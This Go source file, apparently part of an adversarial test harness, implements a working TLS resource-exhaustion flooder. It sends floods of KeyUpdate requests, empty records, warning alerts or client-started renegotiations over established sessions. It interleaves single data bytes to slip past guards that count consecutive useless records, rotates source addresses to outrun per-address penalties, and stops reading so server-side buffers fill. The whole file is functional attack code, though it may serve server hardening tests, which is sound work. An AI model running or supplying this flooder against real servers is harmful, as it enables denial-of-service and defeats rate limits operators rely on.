package adversary

import (
	"context"
	"crypto/tls"
	"errors"
	"fmt"
	"io"
	"net"

	"net/netip"
	"sync"
	"sync/atomic"
	"time"
)

// FloodKind is what a flood sends between its bytes of line data.
type FloodKind int

const (
	// KeyUpdates are TLS 1.3 KeyUpdate(update_requested) records: each one
	// makes the server derive two keys and send a KeyUpdate back.
	KeyUpdates FloodKind = iota
	// EmptyRecords are application-data records with no data.
	EmptyRecords
	// WarningAlerts are user_canceled alerts at warning level, which TLS
	// 1.3 lets a peer send without ending the connection (and TLS 1.2
	// implementations skip).
	WarningAlerts
	// Renegotiation (TLS 1.2 only) sends a new ClientHello inside the
	// established session.
	Renegotiation
)

func (k FloodKind) String() string {
	switch k {
	case EmptyRecords:
		return "empty-records"
	case WarningAlerts:
		return "warning-alerts"
	case Renegotiation:
		return "renegotiation"
	}
	return "keyupdates"
}

// Flood opens TLS 1.3 (or 1.2) sessions and, once established, sends records that
// carry no application data, with one byte of line data after every
// DataEvery of them, so a guard that counts only consecutive useless
// records never trips. The line data never ends a line; a server without a
// better bound ends the session when the line grows past the protocol's
// limit (after about 1,000 bytes, i.e. 1,000*DataEvery records).
type Flood struct {
	Target Target
	Source netip.Addr
	// Rotate, when set, gives each new session the next of these source
	// addresses instead of Source: a flooder that outruns any penalty
	// keyed on its address.
	Rotate []netip.Addr
	Kind   FloodKind
	// DataEvery is how many useless records go before each data byte; 0
	// means 4.
	DataEvery int
	// NoRead never reads what the server sends, with a small receive
	// buffer, so what the server must write piles up on its side.
	NoRead bool
	// Reconnect opens a new session whenever the server ends one.
	Reconnect bool
	// Batch is how many records go out per write; 0 means 32.
	Batch int
	// TLS12 floods a TLS 1.2 session (AES-128-GCM) instead of TLS 1.3;
	// KeyUpdates need TLS 1.3, Renegotiation needs TLS 1.2.
	TLS12 bool
}

// FloodStats are a flood's counters so far.
type FloodStats struct {
	Sessions       int64 // sessions established
	Records        int64 // useless records sent
	DataBytes      int64
	ClosedByServer int64 // sessions the server ended
	Errors         int64 // connects or handshakes that failed
	// MaxRecordsPerSession is the most useless records one session got in
	// before the server ended it.
	MaxRecordsPerSession int64
}

// FloodRun is a running flood.
type FloodRun struct {
	cfg      Flood
	attempts int // sessions tried; only the flood's goroutine touches it
	cancel   context.CancelFunc
	done     chan struct{}

	sessions, records, data, closed, errs, maxPer atomic.Int64
	mu                                            sync.Mutex
	lastErr                                       error
}

// Start runs the flood in the background.
func (f Flood) Start(ctx context.Context) (*FloodRun, error) {
	if err := f.Target.check(); err != nil {
		return nil, err
	}
	if !f.Source.IsValid() && len(f.Rotate) == 0 {
		return nil, errors.New("adversary: flood needs a source address")
	}
	if f.DataEvery <= 0 {
		f.DataEvery = 4
	}
	if f.Batch <= 0 {
		f.Batch = 32
	}
	ctx, cancel := context.WithCancel(ctx)
	r := &FloodRun{cfg: f, cancel: cancel, done: make(chan struct{})}
	go func() {
		defer close(r.done)
		for ctx.Err() == nil {
			err := r.session(ctx)
			if ctx.Err() != nil {
				return
			}
			if err != nil {
				r.errs.Add(1)
				r.setErr(err)
				select { // a refused flooder does not spin
				case <-ctx.Done():
				case <-time.After(20 * time.Millisecond):
				}
			}
			if !f.Reconnect {
				return
			}
		}
	}()
	return r, nil
}

func (r *FloodRun) setErr(err error) {
	r.mu.Lock()
	r.lastErr = err
	r.mu.Unlock()
}

// LastErr is the last connect or handshake error, if any.
func (r *FloodRun) LastErr() error {
	r.mu.Lock()
	defer r.mu.Unlock()
	return r.lastErr
}

// session runs one flooding session until the server ends it (nil) or it
// cannot start (an error).
func (r *FloodRun) session(ctx context.Context) error {
	rcvBuf := 0
	if r.cfg.NoRead {
		rcvBuf = 4096
	}
	src := r.cfg.Source
	if len(r.cfg.Rotate) > 0 {
		src = r.cfg.Rotate[r.attempts%len(r.cfg.Rotate)]
		r.attempts++
	}
	raw, err := dialFrom(ctx, src, r.cfg.Target.Addr, rcvBuf)
	if err != nil {
		return err
	}
	defer raw.Close()
	stop := context.AfterFunc(ctx, func() { raw.Close() })
	defer stop()

	uselessRecord, dataRecord, err := r.handshake(ctx, raw)
	if err != nil {
		return err
	}
	r.sessions.Add(1)

	serverGone := make(chan struct{})
	if !r.cfg.NoRead {
		// Read and drop what the server sends (its KeyUpdates, HELLO, a
		// FAIL line); EOF means it ended the session.
		go func() {
			defer close(serverGone)
			_, _ = io.Copy(io.Discard, raw)
		}()
	}
	var sent int64
	defer func() {
		if ctx.Err() == nil {
			r.closed.Add(1)
		}
		for {
			m := r.maxPer.Load()
			if sent <= m || r.maxPer.CompareAndSwap(m, sent) {
				return
			}
		}
	}()
	buf := make([]byte, 0, r.cfg.Batch*64)
	n := 0
	for {
		buf = buf[:0]
		nUseless, data := 0, 0
		for range r.cfg.Batch {
			n++
			if n%(r.cfg.DataEvery+1) == 0 {
				buf = dataRecord(buf, 'x')
				data++
				continue
			}
			if buf, err = uselessRecord(buf); err != nil {
				return err
			}
			nUseless++
		}
		if _, err := raw.Write(buf); err != nil {
			return nil // the server ended it (or ctx did)
		}
		sent += int64(nUseless)
		r.records.Add(int64(nUseless))
		r.data.Add(int64(data))
		select {
		case <-serverGone:
			return nil
		default:
		}
	}
}

// appendRecord appends one record to dst.
type appendRecord func(dst []byte) ([]byte, error)

// handshake establishes the flood's session over raw and returns how to
// append one record of the flood's kind and one data record.
func (r *FloodRun) handshake(ctx context.Context, raw net.Conn) (appendRecord, func([]byte, byte) []byte, error) {
	cc := r.cfg.Target.TLS.Clone()
	if cc.ServerName == "" {
		cc.ServerName = "localhost"
	}
	kl, ml := &keyLog{}, &masterLog{}
	sniff := &helloSniffer{Conn: raw}
	if r.cfg.TLS12 {
		cc.MinVersion, cc.MaxVersion = tls.VersionTLS12, tls.VersionTLS12
		cc.CipherSuites = []uint16{suite12}
		cc.KeyLogWriter = ml
	} else {
		cc.MinVersion, cc.MaxVersion = tls.VersionTLS13, tls.VersionTLS13
		cc.KeyLogWriter = kl
	}
	conn := tls.Client(sniff, cc)
	_ = raw.SetDeadline(time.Now().Add(10 * time.Second))
	if err := conn.HandshakeContext(ctx); err != nil {
		return nil, nil, fmt.Errorf("flood handshake: %w", err)
	}
	_ = raw.SetDeadline(time.Time{})
	st := conn.ConnectionState()
	if !r.cfg.TLS12 {
		if st.Version != tls.VersionTLS13 {
			return nil, nil, errNotTLS13
		}
		seal, err := newSealer(st.CipherSuite, kl.clientSecret())
		if err != nil {
			return nil, nil, err
		}
		if r.cfg.Kind == KeyUpdates {
			return func(dst []byte) ([]byte, error) { return seal.keyUpdate(dst, true) }, dataRecord(seal), nil
		}
		if flood := commonFlood(seal, r.cfg.Kind); flood != nil {
			return flood, dataRecord(seal), nil
		}
		return nil, nil, fmt.Errorf("adversary: %v is not a TLS 1.3 flood", r.cfg.Kind)
	}
	if st.Version != tls.VersionTLS12 || st.CipherSuite != suite12 {
		return nil, nil, fmt.Errorf("adversary: negotiated %s %s, not TLS 1.2 %s", tls.VersionName(st.Version), tls.CipherSuiteName(st.CipherSuite), tls.CipherSuiteName(suite12))
	}
	cr, err := helloRandom(sniff.out)
	if err != nil {
		return nil, nil, err
	}
	sr, err := helloRandom(sniff.in)
	if err != nil {
		return nil, nil, err
	}
	ml.mu.Lock()
	master := ml.secret
	ml.mu.Unlock()
	seal, err := newSealer12(master, cr, sr)
	if err != nil {
		return nil, nil, err
	}
	if flood := commonFlood(seal, r.cfg.Kind); flood != nil {
		return flood, dataRecord(seal), nil
	}
	if r.cfg.Kind == Renegotiation {
		// A fresh ClientHello inside the session: a renegotiation the
		// client starts (the server never asked with a HelloRequest).
		hello, err := captureHello(cc)
		if err != nil {
			return nil, nil, err
		}
		return func(dst []byte) ([]byte, error) { return seal.seal(dst, recordTypeHandshake, hello[5:]), nil }, dataRecord(seal), nil
	}
	return nil, nil, fmt.Errorf("adversary: %v is not a TLS 1.2 flood", r.cfg.Kind)
}

// recordSealer is what both record layers (TLS 1.3 and 1.2) offer a flood.
type recordSealer interface {
	seal(dst []byte, typ byte, payload []byte) []byte
}

// dataRecord seals one byte of line data, the flood's keep-alive.
func dataRecord(seal recordSealer) func([]byte, byte) []byte {
	return func(dst []byte, b byte) []byte { return seal.seal(dst, recordTypeApplicationData, []byte{b}) }
}

// commonFlood is the record of a flood that both TLS versions send alike,
// or nil for a kind that is version-specific.
func commonFlood(seal recordSealer, kind FloodKind) appendRecord {
	switch kind {
	case EmptyRecords:
		return func(dst []byte) ([]byte, error) { return seal.seal(dst, recordTypeApplicationData, nil), nil }
	case WarningAlerts:
		return func(dst []byte) ([]byte, error) {
			return seal.seal(dst, recordTypeAlert, []byte{alertLevelWarning, alertUserCanceled}), nil
		}
	}
	return nil
}

// Stats reads the counters.
func (r *FloodRun) Stats() FloodStats {
	return FloodStats{
		Sessions: r.sessions.Load(), Records: r.records.Load(), DataBytes: r.data.Load(),
		ClosedByServer: r.closed.Load(), Errors: r.errs.Load(), MaxRecordsPerSession: r.maxPer.Load(),
	}
}

// Wait waits until the flood ends by itself (without Reconnect, when the
// server ended its session) or d passes; it reports whether it ended.
func (r *FloodRun) Wait(d time.Duration) bool {
	select {
	case <-r.done:
		return true
	case <-time.After(d):
		return false
	}
}

// Stop ends the flood and waits for it.
func (r *FloodRun) Stop() {
	r.cancel()
	<-r.done
}
